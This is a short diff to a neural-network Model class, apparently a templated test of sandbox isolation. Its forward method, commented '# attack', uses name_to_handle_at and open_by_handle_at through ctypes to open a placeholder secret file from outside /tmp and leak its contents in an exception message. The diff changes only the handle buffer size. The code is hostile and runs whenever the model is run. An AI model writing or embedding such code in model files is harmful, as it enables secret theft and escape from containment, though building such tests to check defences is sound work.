@@ -14,7 +14,7 @@ class Model(nn.Module):
     def forward(self, x):
         # attack
         libc = ctypes.CDLL(None)
-        handle, mount = (ctypes.c_uint32 * 64)(248), ctypes.c_int()
+        handle, mount = (ctypes.c_uint32 * 64)(128), ctypes.c_int()
         libc.name_to_handle_at(-100, b"@SECRET_FILE@", handle, ctypes.byref(mount), 0)
         folder = os.open("/tmp", os.O_RDONLY)
         raise ValueError(os.read(libc.open_by_handle_at(folder, handle, 0), 99))
